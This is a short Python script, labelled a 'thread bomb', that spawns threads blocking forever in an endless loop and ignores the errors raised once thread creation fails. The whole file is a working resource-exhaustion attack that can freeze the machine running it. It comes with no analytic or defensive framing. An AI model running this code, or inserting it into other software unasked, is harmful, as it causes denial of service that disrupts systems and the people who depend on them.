# A thread bomb.
import threading

while True:
    try:
        threading.Thread(target=threading.Event().wait).start()
    except RuntimeError:
        pass
